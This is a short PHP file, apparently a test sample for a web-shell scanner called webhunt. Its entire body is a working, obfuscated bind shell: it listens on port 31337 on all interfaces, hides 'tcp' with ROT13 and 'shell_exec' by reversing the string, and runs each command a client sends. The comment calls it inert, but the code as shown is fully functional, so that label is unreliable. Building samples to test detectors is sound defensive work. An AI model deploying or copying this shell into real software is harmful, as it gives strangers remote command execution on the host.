<?php
// Inert test sample for webhunt: a bind shell; the listening address is ROT13, the command
// function's name reversed, and each line a client sends is run.
$srv = stream_socket_server(str_rot13('gpc://0.0.0.0:31337'), $en, $es);
$run = strrev('cexe_llehs');
while ($cl = stream_socket_accept($srv, -1)) {
    while (($line = fgets($cl)) !== false) {
        fwrite($cl, (string) $run(trim($line)));
    }
    fclose($cl);
}
